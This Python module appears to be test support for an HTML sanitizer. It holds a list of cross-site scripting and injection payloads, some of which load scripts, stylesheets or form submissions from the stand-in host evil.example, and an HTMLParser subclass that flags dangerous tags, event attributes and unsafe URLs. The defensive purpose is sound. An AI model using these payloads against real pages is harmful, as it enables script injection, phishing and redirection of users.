"""What does a page meet in the wild? Texts that try to become markup, script or an address."""

import re
from html.parser import HTMLParser

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0caaa>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,x#x"/></svg>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>Sign in</button>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0',
    "` onmouseover=alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "/\\evil.example/",
    "https:evil.example",
    "https://a.example/\"onmouseover='alert(1)'",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% raw %}{{ frame }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "<https://a.example/|<script>alert(1)</script>>",
    "<javascript:alert(1)|click>",
    "*<b>*_<i>_~<u>~`<script>`",
    "\u202e<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "\x00<\x00script\x00>alert(1)</script>",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
)

_SAFE_ADDRESS = re.compile(r"#|/(?![/\\])|https?://")
_ADDRESSES = frozenset({"href", "src", "action"})
_FORBIDDEN = frozenset({"style", "formaction", "srcdoc", "http-equiv", "data", "background"})


class Skeleton(HTMLParser):
    """Reads a page as its tags and the names of their attributes, and finds its faults."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.faults: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(" ".join([tag, *(name for name, _ in attrs)]))
        for name, value in attrs:
            if name in _FORBIDDEN or name.startswith("on"):
                self.faults.append(f"<{tag} {name}>")
            if name in _ADDRESSES and not _SAFE_ADDRESS.match(value or ""):
                self.faults.append(f"<{tag} {name}={value!r}>")
        if tag in {"style", "iframe", "object", "embed", "base"}:
            self.faults.append(f"<{tag}>")
        if tag == "script" and not dict(attrs).get("src", ""):
            self.faults.append("<script> inline")

    def handle_endtag(self, tag: str) -> None:
        self.tags.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")


def skeleton(html: str) -> Skeleton:
    """Read a page, or a fragment of one."""
    reader = Skeleton()
    reader.feed(html)
    reader.close()
    return reader
